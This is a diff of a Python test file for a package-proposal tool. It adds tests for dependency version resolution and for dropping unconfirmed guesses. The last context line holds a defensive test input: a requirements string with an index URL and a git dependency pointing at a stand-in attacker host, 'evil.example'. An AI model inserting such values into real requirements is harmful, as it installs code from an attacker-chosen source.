@@ -89,6 +89,50 @@ def test_a_package_that_is_younger_another_none_or_never_meant_is_not_taken(inde
     assert module in {each.what for each in found.open}
 
 
+OLD_WHEEL = "cp311-cp311-manylinux2014_x86_64"
+
+
+@needs_uv
+@pytest.mark.parametrize(
+    ("lines", "versions"),
+    [
+        (("old-ext",), {"numpy": "1.26"}),
+        (("old-ext", "needs-two==1.0"), {"numpy": "2.1"}),
+        (("old-ext", "needs-two==1.0", "early-tool"), {"numpy": "2.1", "early-tool": "1.0"}),
+        (("early-tool",), {"early-tool": "1.0"}),
+        (("early-only",), {"early-only": "1.0b1"}),
+        (("early-tool", "needs-early==1.0"), {"early-tool": "2.0.dev3"}),
+        (("early-tool", "needs-early"), {"early-tool": "1.0", "needs-early": "0.9"}),
+    ],
+)
+def test_what_is_better_left_out_gives_way_to_what_others_need(index, lines, versions):
+    index.publish("numpy", "1.26", {"numpy.py": ""}, "2023-09-16")
+    index.publish("numpy", "2.1", {"numpy.py": ""}, "2024-08-18")
+    index.publish("old-ext", "1.0", {"old_ext.py": ""}, "2023-01-01", ("numpy",), tag=OLD_WHEEL)
+    index.publish("needs-two", "1.0", {"needs_two.py": ""}, "2024-08-18", ("numpy>=2",))
+    index.publish("early-tool", "1.0", {"early_tool.py": ""}, "2020-01-01")
+    index.publish("early-tool", "2.0.dev3", {"early_tool.py": ""}, "2020-02-01")
+    index.publish("early-only", "1.0b1", {"early_only.py": ""}, "2020-02-01")
+    index.publish("needs-early", "0.9", {"needs_early.py": ""}, "2020-01-01", ("early-tool",))
+    index.publish("needs-early", "1.0", {"needs_early.py": ""}, "2020-02-01", ("early-tool>=2.0.dev1",))
+    found = proposed({"a.py": "import old_ext\n", "requirements.txt": "\n".join(lines)}, python="3.11")
+    installed = {each.name: each.version for each in found.installation.packages}
+    assert installed.items() >= versions.items()
+
+
+@needs_uv
+def test_a_guess_that_is_not_confirmed_is_left_out_even_where_the_search_ends_early(index):
+    limits = CONFIG.environment.model_copy(update={"max_candidates": 1})
+    proposer = Proposer(CONFIG.model_copy(update={"environment": limits}))
+    try:
+        files = {"a.py": "import other_tool\nimport six\n"}
+        found = proposer.proposal(make_subject(files), (THEN,), accept_guesses=True)
+    finally:
+        proposer.close()
+    assert {each.name for each in found.installation.packages} == {"six", "setuptools"}
+    assert (found.cut_off, found.guesses, found.fails) == (True, (), ("a.py",))
+
+
 @needs_uv
 def test_nothing_of_the_repository_s_addresses_or_indexes_is_used(index):
     evil = "--index-url https://evil.example/simple\nodd-tool @ git+https://evil.example/x.git\nsix\n"
